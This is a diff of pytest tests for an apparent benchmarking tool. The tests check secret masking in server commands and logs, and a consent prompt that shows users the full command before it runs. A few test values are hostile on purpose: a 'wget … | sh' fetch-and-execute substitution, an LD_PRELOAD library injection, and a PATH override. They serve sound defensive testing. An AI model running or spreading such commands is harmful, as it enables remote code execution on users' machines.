@@ -18,7 +18,9 @@ import anyio
 import pytest
 
 from loadbench.core.errors import BadInput, TargetEnded
+from loadbench.core.guard import linux_parents
 from loadbench.plan.pairs import sides
+from loadbench.plan.server_command import secrets_of_command, shown_command, split_words
 from loadbench.plan.sources import resolve
 from loadbench.session.consent import confirm_command
 from loadbench.session.setup import check
@@ -275,6 +277,70 @@ def test_secrets_are_neither_shown_nor_kept(tmp_path, mark):
         assert not path.is_file() or b"s3cret" not in path.read_bytes(), path
 
 
+@pytest.mark.parametrize(
+    ("line", "shown", "hidden"),
+    [
+        ("serve -k sk-abcdef0123456789", "serve -k ***", ["sk-abcdef0123456789"]),
+        ("bash -c 'serve --api-key X1'", "bash -c 'serve --api-key ***'", ["X1"]),
+        ("docker run --env=HF_TOKEN=X1 x", "docker run --env=HF_TOKEN=*** x", ["X1"]),
+        ("serve --header 'Authorization: Bearer X1'", "serve --header 'Authorization: Bearer ***'", ["X1"]),
+        ("""serve '{{"api_key": "X1"}}'""", """serve '{{"api_key": "***"}}'""", ["X1"]),
+        ("serve http://u:X1@h/?token=X2", "serve http://***@h/?token=***", ["u:X1", "X2"]),
+        (
+            "serve --max-token 5 --tokenizer my/one --key {port}",
+            "serve --max-token 5 --tokenizer my/one --key {port}",
+            [],
+        ),
+    ],
+)
+def test_secrets_are_found_within_words(line, shown, hidden):
+    """Of scripts, variables, headers, JSON and URLs; and what stays can be read."""
+    assert shown_command(split_words(line)) == shown
+    assert list(secrets_of_command(split_words(line))) == hidden
+
+
+@pytest.mark.parametrize("text", ["a-", "key: ", "a=", "://", "sk-", 'a" ', "-"])
+def test_long_words_are_searched_in_linear_time(text):
+    """No command takes minutes to show."""
+    assert shown_command([text * 100_000])
+
+
+@linux_only
+def test_a_secret_of_the_users_own_environment_is_not_in_the_log(tmp_path, mark, monkeypatch):
+    """A server may print what it has inherited."""
+    monkeypatch.setenv("OTHER_API_KEY", "inherited-0123456789")
+    loadbench("sweep", f"--server-cmd={command(mark, '--shows=OTHER_API_KEY')}", *SHORT, cwd=tmp_path)
+    (log,) = tmp_path.rglob("server.log")
+    assert log.read_text() == "OTHER_API_KEY is ***\n"
+
+
+@linux_only
+def test_a_script_without_its_first_line_is_explained(tmp_path):
+    """A shell runs one, so the advice to try it there would not help."""
+    script = tmp_path / "serve.sh"
+    script.write_text("exec sleep 60\n")
+    script.chmod(0o700)
+    result = typed("sweep", "--server-cmd=./serve.sh {port}", *SHORT, cwd=tmp_path)
+    assert result.returncode == 2
+    assert "#!/bin/sh" in result.stderr
+
+
+@linux_only
+@pytest.mark.slow
+def test_what_a_stopped_guard_leaves_is_killed(tmp_path, mark):
+    """It does not end what it should, so loadbench does."""
+
+    async def stopped() -> None:
+        one = server(mark, "--fork=detached", folder=tmp_path)
+        await one.start()
+        assert one.pid is not None
+        os.kill(linux_parents()[one.pid], signal.SIGSTOP)
+        await one.stop()
+
+    anyio.run(stopped)
+    assert with_mark(mark) == []
+
+
 @linux_only
 def test_loadbenchs_own_variables_are_not_the_servers(tmp_path, mark, monkeypatch):
     """A key for a server that is measured is nobody else's."""
@@ -440,6 +506,31 @@ def test_the_answer_at_the_terminal_decides(tmp_path, monkeypatch, answer, goes_
         with pytest.raises(BadInput, match="not confirmed"):
             confirm_command(scenario, say=lambda _: None)
     assert "python3 serve.py --port {port}" in asked.getvalue()
+
+
+def test_the_question_shows_all_that_would_run(tmp_path):
+    """What looks like a secret may be a program."""
+    script = "token=$(wget -qO- example.org | sh); exec serve"
+    words = json.dumps(["sh", "-c", script, "--api-key", "rm", "{port}"])
+    (tmp_path / "s.toml").write_text(f'[target]\nserver_cmd = {words}\nserver_env = {{ LD_PRELOAD = "/tmp/x.so" }}\n')
+    with pytest.raises(BadInput) as caught:
+        confirm_command(resolve(flags={}, environment={}, file=tmp_path / "s.toml"), say=lambda _: None)
+    assert f"sh -c '{script}' --api-key rm {{port}}, with LD_PRELOAD=/tmp/x.so" in caught.value.message
+
+
+def test_the_variables_of_a_file_need_a_yes_too(tmp_path):
+    """They choose the program of the user's command, by its PATH, or what is loaded into it."""
+    (tmp_path / "s.toml").write_text('[target]\nserver_env = { PATH = "/tmp/bin" }\n')
+    flags = {"server_cmd": "serve --api-key my-own-key {port}"}
+    with pytest.raises(BadInput) as caught:
+        confirm_command(resolve(flags=flags, environment={}, file=tmp_path / "s.toml"), say=lambda _: None)
+    assert "serve --api-key *** {port}, with PATH=/tmp/bin in its environment" in caught.value.message
+    confirm_command(
+        resolve(flags={**flags, "yes_run": True}, environment={}, file=tmp_path / "s.toml"), say=lambda _: None
+    )
+    # The user's own values are not shown, and need no confirmation.
+    own = resolve(flags={**flags, "server_env": ["PATH=/tmp/mine"]}, environment={}, file=tmp_path / "s.toml")
+    confirm_command(own, say=lambda _: None)
 
 
 def test_no_file_can_confirm(tmp_path):
